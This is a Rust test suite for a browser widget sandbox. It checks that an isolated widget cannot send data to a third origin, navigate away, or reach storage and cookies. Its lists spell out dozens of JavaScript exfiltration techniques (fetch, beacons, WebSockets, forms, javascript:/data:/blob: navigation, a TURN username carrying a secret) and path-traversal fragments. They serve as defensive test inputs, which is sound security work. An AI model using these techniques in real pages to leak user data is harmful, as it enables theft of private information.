//! Section 2, the cage: a widget that wants to tell somebody else what it knows finds no way.

use std::time::Duration;

use anyhow::{Result, ensure};
use greffon_tests::engine::Engine;
use greffon_tests::journeys;
use greffon_tests::runner::Journey;
use greffon_tests::stage::{Mode, Stage};
use greffon_tests::wait::{never, until};
use serde_json::{Value, json};

use greffon_tests::house::{House, Policy};

const FRAME: &[Mode] = &[Mode::Frame];

pub(crate) fn all() -> Vec<Journey> {
    journeys![
        FRAME =>
            the_third_origin_would_be_reached_from_the_portal,
            no_request_reaches_a_third_origin,
            no_connection_is_opened_to_a_third_origin,
            no_navigation_reaches_a_third_origin,
            the_browser_gives_the_widget_nothing,
            the_cage_takes_no_other_document,
    ]
    .to_vec()
}

/// Ways to leave by loading or sending something. Each gets the third origin and must fail by itself.
const SENDING: &[&str] = &[
    "fetch(third + '/fetch?secret')",
    "fetch(third + '/no-cors?secret', { mode: 'no-cors', method: 'POST', body: 'secret' })",
    "{ const x = new XMLHttpRequest(); x.open('GET', third + '/xhr?secret'); x.send(); }",
    "new Image().src = third + '/image?secret'",
    "navigator.sendBeacon(third + '/beacon?secret', 'secret')",
    "new WebSocket(third.replace('http', 'ws') + '/socket?secret')",
    "new EventSource(third + '/events?secret')",
    "import(third + '/module.js?secret')",
    "{ const s = document.createElement('script'); s.src = third + '/script.js?secret'; document.body.append(s); }",
    "{ const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = third + '/style.css?secret'; document.head.append(l); }",
    "{ const l = document.createElement('link'); l.rel = 'prefetch'; l.href = third + '/prefetch?secret'; document.head.append(l); }",
    "{ const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = third + '/preload?secret'; document.head.append(l); }",
    "{ const l = document.createElement('link'); l.rel = 'modulepreload'; l.href = third + '/modulepreload.js?secret'; document.head.append(l); }",
    "{ const l = document.createElement('link'); l.rel = 'icon'; l.href = third + '/icon?secret'; document.head.append(l); }",
    "{ const v = document.createElement('video'); v.src = third + '/video?secret'; v.autoplay = v.muted = true; document.body.append(v); }",
    "{ const o = document.createElement('object'); o.data = third + '/object?secret'; document.body.append(o); }",
    "{ const f = document.createElement('iframe'); f.src = third + '/frame?secret'; document.body.append(f); }",
    "{ const s = new CSSStyleSheet(); s.replaceSync(`body { background: url(${third}/css?secret) }`); document.adoptedStyleSheets = [s]; }",
    "new FontFace('x', `url(${third}/font?secret)`).load()",
    "{ const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); s.innerHTML = `<image href='${third}/svg?secret'/>`; document.body.append(s); }",
    "new Worker(third + '/worker.js?secret')",
    "open(third + '/popup?secret')",
    "open(third + '/popup-noopener?secret', '_blank', 'noopener')",
    "{ const a = document.createElement('a'); a.href = third + '/ping-target'; a.ping = third + '/ping?secret'; a.target = '_blank'; document.body.append(a); a.click(); }",
    "{ const f = document.createElement('form'); f.action = third + '/form?secret'; f.method = 'post'; f.target = '_blank'; document.body.append(f); f.submit(); }",
    "top.location = third + '/top?secret'",
    "parent.location = third + '/parent?secret'",
];

/// Ways to leave by going there oneself: each ends the document, so each needs one of its own.
const LEAVING: &[&str] = &[
    "location.href = third + '/href?secret'",
    "location.replace(third + '/replace?secret')",
    "{ const a = document.createElement('a'); a.href = third + '/download?secret'; a.download = 'x'; document.body.append(a); a.click(); }",
    "open(third + '/self?secret', '_self')",
    "{ const a = document.createElement('a'); a.href = third + '/link?secret'; document.body.append(a); a.click(); }",
    "{ const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${third}/refresh?secret`; document.head.append(m); }",
    "{ const f = document.createElement('form'); f.action = third + '/form-self'; f.innerHTML = '<input name=secret value=1>'; document.body.append(f); f.submit(); }",
    "location.href = `javascript:location.href='${third}/script?secret'`",
    "location.href = `data:text/html,<script>location.href='${third}/data?secret'</` + `script>`",
    "location.href = URL.createObjectURL(new Blob([`<script>location.href='${third}/blob?secret'</` + `script>`], { type: 'text/html' }))",
];

/// The counter counts: a portal without a policy may call whom it wants.
async fn the_third_origin_would_be_reached_from_the_portal(stage: &Stage) -> Result<()> {
    let house = House::build().await?;
    let portal = house.open(stage, Policy::None, 1).await?;
    let third = json!(house.third.origin());
    let _: Value =
        portal.page("fetch(arguments[0] + '/hello', { mode: 'no-cors' }); return null", vec![third]).await?;
    until("the portal's own request", async || Ok(house.third.asked().contains(&"/hello".to_owned()))).await
}

async fn no_request_reaches_a_third_origin(stage: &Stage) -> Result<()> {
    let house = House::build().await?;
    let portal = house.open(stage, Policy::None, 1).await?;
    portal.visitor.expect_violations();
    portal.mount_ready("one").await?;
    let third = house.third.origin();
    for way in SENDING {
        // A document that has gone elsewhere would try nothing any more.
        let script = format!("const third = '{third}'; try {{ {way} }} catch (refused) {{}} return probe.id");
        let id: String = portal.probe("one", &script).await?;
        ensure!(id == "probe", "the probe is gone before {way}");
    }
    never("a request to the third origin", Duration::from_secs(2), async || {
        Ok(!house.third.asked().is_empty())
    })
    .await
    .map_err(|error| error.context(format!("it was asked {:?}", house.third.asked())))?;
    let here: String = portal.page("return location.pathname", vec![]).await?;
    ensure!(here == "/portal.html", "the portal was taken to {here}");
    Ok(())
}

/// A connection alone tells its name and its time, and a relay's user name can carry anything. Only Chromium has the
/// means to forbid that; the others must at least ask nothing through it.
async fn no_connection_is_opened_to_a_third_origin(stage: &Stage) -> Result<()> {
    let house = House::build().await?;
    let portal = house.open(stage, Policy::None, 1).await?;
    portal.visitor.expect_violations();
    portal.mount_ready("one").await?;
    let third = house.third.origin();
    let ways = [
        "for (const rel of ['preconnect', 'dns-prefetch', 'prerender']) {
           const link = document.createElement('link'); link.rel = rel; link.href = third; document.head.append(link);
         }",
        "const rules = document.createElement('script'); rules.type = 'speculationrules';
         rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`${third}/speculation`] }] });
         document.head.append(rules);",
        "const urls = `turn:${new URL(third).host}?transport=tcp`;
         const call = new RTCPeerConnection({ iceServers: [{ urls, username: 'secret', credential: 'x' }] });
         call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer());",
    ];
    for way in ways {
        let script = format!("const third = '{third}'; try {{ {way} }} catch (refused) {{}} return probe.id");
        let id: String = portal.probe("one", &script).await?;
        ensure!(id == "probe", "the probe is gone after {way}");
    }
    let forbids_connections = stage.engine() == Engine::Chromium;
    never("a word to the third origin", Duration::from_secs(2), async || {
        Ok(!house.third.asked().is_empty() || forbids_connections && house.third.contacts() > 0)
    })
    .await
}

async fn no_navigation_reaches_a_third_origin(stage: &Stage) -> Result<()> {
    let house = House::build().await?;
    let portal = house.open(stage, Policy::None, 1).await?;
    portal.visitor.expect_violations();
    let third = house.third.origin();
    for (number, way) in LEAVING.iter().enumerate() {
        let name = format!("leaver-{number}");
        portal.mount_ready(&name).await?;
        // In a timer: the answer must leave before the document does.
        let script = format!("const third = '{third}'; setTimeout(() => {{ {way} }}, 20); return null");
        let _: Value = portal.probe(&name, &script).await?;
    }
    never("a navigation to the third origin", Duration::from_secs(2), async || {
        Ok(!house.third.asked().is_empty())
    })
    .await
    .map_err(|error| error.context(format!("it was asked {:?}", house.third.asked())))
}

async fn the_browser_gives_the_widget_nothing(stage: &Stage) -> Result<()> {
    let house = House::build().await?;
    let portal = house.open(stage, Policy::None, 1).await?;
    portal.mount_ready("one").await?;
    let body = "
        const had = [];
        const tries = {
          localStorage: () => localStorage.length,
          sessionStorage: () => sessionStorage.length,
          cookie: () => (document.cookie = 'a=1'),
          'the page': () => parent.document.title,
          'the top page': () => top.document.title,
          'the frame around': () => frameElement.id,
        };
        for (const [name, attempt] of Object.entries(tries)) {
          try { attempt(); had.push(name); } catch {}
        }
        const database = await new Promise((resolve) => {
          try {
            const request = indexedDB.open('x');
            request.onsuccess = () => resolve(true);
            request.onerror = () => resolve(false);
          } catch { resolve(false); }
        });
        if (database) had.push('indexedDB');
        return [origin, had]";
    let said: Value = portal.probe("one", body).await?;
    ensure!(said == json!(["null", []]), "the widget had {said}");
    Ok(())
}

async fn the_cage_takes_no_other_document(stage: &Stage) -> Result<()> {
    let house = House::build().await?;
    let portal = house.open(stage, Policy::None, 1).await?;
    portal.visitor.expect_violations();
    let third = house.third.origin();
    let bad = [
        "../secret.html",
        "//evil/index.html",
        "probe/thief.html",
        "probe/index.html?x",
        "Probe/index.html",
        "javascript:alert(1)",
        &format!("{third}/index.html"),
        "probe/../probe/index.html",
        "%2e%2e/index.html",
        "",
    ];
    for fragment in bad {
        let add = "const frame = document.createElement('iframe'); frame.title = 'x'; frame.className = 'bad';
            frame.src = `${arguments[0]}/widgets/cage.html#${arguments[1]}`; document.body.append(frame); return null";
        let _: Value = portal.page(add, vec![json!(portal.widgets.origin()), json!(fragment)]).await?;
    }
    // A good one, after the bad ones: when it has loaded, they have had their time.
    portal.mount_ready("good").await?;
    let mut filled = Vec::new();
    for (number, fragment) in bad.iter().enumerate() {
        portal.browser().top().await?;
        let script = "return document.querySelectorAll('iframe.bad')[arguments[0]]";
        let Some(frame) = portal.browser().element(script, vec![json!(number)]).await? else { continue };
        frame.enter_frame().await?;
        if !portal.browser().frames().await?.is_empty() {
            filled.push(*fragment);
        }
    }
    ensure!(filled.is_empty(), "the cage took {filled:?}");
    ensure!(house.third.asked().is_empty(), "the third origin was asked {:?}", house.third.asked());
    Ok(())
}
